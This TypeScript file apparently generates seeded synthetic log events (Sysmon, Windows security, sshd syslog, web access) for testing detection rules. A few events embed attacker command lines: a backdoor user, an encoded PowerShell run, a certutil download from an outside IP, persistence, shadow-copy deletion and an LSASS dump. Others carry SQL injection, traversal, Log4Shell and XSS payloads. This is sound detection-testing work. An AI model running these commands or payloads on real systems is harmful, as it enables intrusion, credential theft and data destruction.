/**
 * Events of many kinds from a seed: the same seed gives the same events. Most are everyday ones; one in `odds` does
 * what rules look for. `product`, `service` and `category` in an event are its logsource.
 */
import { type Random, seededRandom } from '../../src/simulate/random.ts'

/** The kinds, by name: one event as a line of JSON. */
const KINDS = {
  nested_windows: nestedWindows,
  flat_windows: random => JSON.stringify({ ...flatWindows(random), ...PROCESS_CREATION }),
  raw_windows_generated: rawWindows,
  file_events_generated: fileEvent,
  syslog_json: syslog,
  web_access: webAccess,
  nothing_matches: random =>
    JSON.stringify({ ...flatWindows(random, Number.POSITIVE_INFINITY), product: 'nobody' }),
  most_match: random => JSON.stringify({ ...flatWindows(random, 1), ...PROCESS_CREATION }),
} as const satisfies Record<string, (random: Random) => string>

export const GENERATED_LANES = [...Object.keys(KINDS), 'mix_of_all'] as const

const SEED = 20_260_101

/** `count` events of a lane; in `mix_of_all` the kinds take turns by chance. */
export function generateEvents(lane: string, count: number): string[] {
  const random = seededRandom(SEED)
  const kinds = Object.entries(KINDS).flatMap(([name, kind]) =>
    name === lane || (lane === 'mix_of_all' && name !== 'nothing_matches') ? [kind] : [],
  )
  return Array.from({ length: count }, () => random.pick(kinds)(random))
}

const PROCESS_CREATION = { product: 'windows', category: 'process_creation' }
/** Everyday programs under C:\Windows and what starts them. */
const PROGRAMS: readonly (readonly [command: string, parent: string])[] = [
  ['System32\\svchost.exe -k netsvcs -p -s Schedule', 'System32\\services.exe'],
  ['System32\\svchost.exe -k LocalService -p', 'System32\\services.exe'],
  ['System32\\conhost.exe 0x4', 'System32\\cmd.exe'],
  ['System32\\SearchIndexer.exe /Embedding', 'System32\\services.exe'],
  ['System32\\taskhostw.exe KEYROAMING', 'System32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['System32\\wbem\\WmiPrvSE.exe -secured -Embedding', 'System32\\svchost.exe -k DcomLaunch -p'],
  ['System32\\RuntimeBroker.exe -Embedding', 'System32\\svchost.exe -k DcomLaunch -p'],
  [
    'System32\\backgroundTaskHost.exe -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
    'System32\\svchost.exe -k DcomLaunch -p',
  ],
]
const SHELL = 'explorer.exe'
const DEEDS = [
  'System32\\cmd.exe /c whoami /all > C:\\Users\\Public\\out.txt',
  'System32\\net.exe user backdoor P@ssw0rd1 /add',
  'System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'System32\\certutil.exe -urlcache -split -f http://198.51.100.9/a.exe C:\\Users\\Public\\a.exe',
  'System32\\schtasks.exe /create /sc minute /tn upd /tr C:\\Users\\Public\\u.exe',
  'System32\\reg.exe add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe',
  'System32\\vssadmin.exe delete shadows /all /quiet',
  'System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
]
const USERS = [
  'CORP\\alice',
  'CORP\\bob',
  'NT AUTHORITY\\SYSTEM',
  'CORP\\svc-backup',
  'NT AUTHORITY\\NETWORK SERVICE',
]
const COMPUTERS = [
  'ws-1187.corp.example',
  'srv-dc01.corp.example',
  'srv-file01.corp.example',
  'lt-3301.corp.example',
]
const FOLDERS = [
  'Users\\alice\\Documents',
  'ProgramData\\Microsoft\\Windows',
  'Users\\bob\\AppData\\Local\\Temp',
  'Windows\\Prefetch',
]
const FILES = [
  'report-q3.docx',
  'cache_0001.db',
  'settings.json',
  'SVCHOST.EXE-1A2B3C4D.pf',
  'invoice.pdf',
  'a.tmp',
]
const BAD_FILES = ['payload.iso', 'winlogon.hta', 'readme.txt.exe', 'ntds.dit', 'mimikatz.exe', 'profile.ps1']

/** Less than one event in a thousand of a real network matches a rule of the public set; here it is some more. */
const ODDS = 50

function flatWindows(random: Random, odds = ODDS): Record<string, unknown> {
  const is_deed = Number.isFinite(odds) && random.oneIn(odds)
  const [program, starter] = is_deed ? ([random.pick(DEEDS), SHELL] as const) : random.pick(PROGRAMS)
  const command = `C:\\Windows\\${program}`
  const parent = `C:\\Windows\\${starter}`
  const image = imageOf(command)
  return {
    EventID: 1,
    UtcTime: timeOf(random),
    ProcessGuid: guid(random),
    ProcessId: random.between(400, 65_000),
    Image: image,
    FileVersion: `10.0.19041.${random.between(1, 4000)} (WinBuild.160101.0800)`,
    Description: 'Host Process for Windows Services',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: command,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: random.pick(USERS),
    LogonGuid: guid(random),
    LogonId: `0x${random.hex(5)}`,
    TerminalSessionId: random.below(4),
    IntegrityLevel: random.pick(['System', 'High', 'Medium']),
    Hashes: `MD5=${random.hex(32).toUpperCase()},SHA256=${random.hex(64).toUpperCase()},IMPHASH=${random.hex(32).toUpperCase()}`,
    ParentProcessGuid: guid(random),
    ParentProcessId: random.between(400, 65_000),
    ParentImage: imageOf(parent),
    ParentCommandLine: parent,
    ParentUser: random.pick(USERS),
    Computer: random.pick(COMPUTERS),
  }
}

/** As evtx_dump writes them. */
function nestedWindows(random: Random): string {
  const { EventID, Computer, ...data } = flatWindows(random)
  return JSON.stringify({
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: {
          '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' },
        },
        EventID,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: timeOf(random) } },
        EventRecordID: random.below(1_000_000),
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 2044, ThreadID: 3188 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer,
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: { RuleName: '-', ...data },
    },
    ...PROCESS_CREATION,
  })
}

function rawWindows(random: Random): string {
  const { CommandLine: command, ParentImage: parent, User: user } = flatWindows(random)
  const computer = random.pick(COMPUTERS)
  const message =
    `<131>Jul 28 11:30:24 ${computer} MSWinEventLog\t1\tSecurity\t${random.below(10_000_000)}\tTue Jul 28 11:28:00 2026\t4688\t` +
    `Microsoft-Windows-Security-Auditing\t-\\-\tN/A\tSuccess Audit\t${computer}\tProcess Creation\t\tA new process has been ` +
    `created.    Creator Subject:   Security ID:  ${user}   Logon ID:  0x${random.hex(4)}    Process Information:   ` +
    `New Process ID:  0x${random.hex(4)}   Creator Process Name: ${parent}   Process Command Line: ${command}`
  return JSON.stringify({ message, product: 'windows', service: 'security' })
}

function fileEvent(random: Random): string {
  const name = random.pick(random.oneIn(ODDS) ? BAD_FILES : FILES)
  return JSON.stringify({
    EventID: 11,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: random.pick(COMPUTERS),
    UtcTime: timeOf(random),
    ProcessGuid: guid(random),
    ProcessId: random.between(400, 65_000),
    Image: imageOf(`C:\\Windows\\${random.pick(PROGRAMS)[0]}`),
    TargetFilename: `C:\\${random.pick(FOLDERS)}\\${random.hex(6)}-${name}`,
    CreationUtcTime: timeOf(random),
    User: random.pick(USERS),
    product: 'windows',
    category: 'file_event',
  })
}

const DAEMON_MESSAGES = [
  'Accepted publickey for deploy from 192.0.2.17 port 50514 ssh2',
  'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)',
  'Connection closed by authenticating user root 203.0.113.5 port 41022 [preauth]',
  'Received disconnect from 192.0.2.17 port 50514:11: disconnected by user',
]
const DAEMON_DEEDS = ['error: key_verify failed: incorrect signature', 'fatal: unexpected internal error']

function syslog(random: Random): string {
  const text = random.pick(random.oneIn(ODDS) ? DAEMON_DEEDS : DAEMON_MESSAGES)
  return JSON.stringify({
    timestamp: timeOf(random),
    hostname: `web${random.between(1, 40)}`,
    program: 'sshd',
    pid: random.between(400, 65_000),
    message: text,
    product: 'linux',
    service: 'sshd',
  })
}

const PAGES = [
  '/',
  '/index.html',
  '/api/v1/orders?page=2',
  '/static/app.9f2c.js',
  '/login',
  '/images/logo.svg',
]
const ATTACKS = [
  '/index.php?id=1%27%20UNION%20SELECT%201,2,3--',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/?x=$%7Bjndi:ldap://203.0.113.9/a%7D',
  '/search?q=<script>alert(1)</script>',
]
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36',
  'curl/8.5.0',
]

function webAccess(random: Random): string {
  const target = random.pick(random.oneIn(ODDS) ? ATTACKS : PAGES)
  return JSON.stringify({
    time: timeOf(random),
    'c-ip': `192.0.2.${random.below(256)}`,
    'cs-method': random.pick(['GET', 'GET', 'GET', 'POST']),
    'cs-uri-stem': target.split('?')[0],
    'cs-uri-query': target,
    'sc-status': random.pick([200, 200, 304, 404, 500]),
    'sc-bytes': random.below(100_000),
    'cs-user-agent': random.pick(AGENTS),
    'cs-referer': 'https://www.example.com/',
    category: 'webserver',
  })
}

/** The program of a command line of this file. */
function imageOf(command: string): string {
  return command.slice(0, command.indexOf('.exe') + 4)
}

function timeOf(random: Random): string {
  const two = (value: number) => String(value).padStart(2, '0')
  return `2026-07-28 ${two(random.below(24))}:${two(random.below(60))}:${two(random.below(60))}.${random.between(100, 999)}`
}

function guid(random: Random): string {
  return `{${random.hex(8)}-${random.hex(4)}-${random.hex(4)}-${random.hex(4)}-${random.hex(12)}}`
}
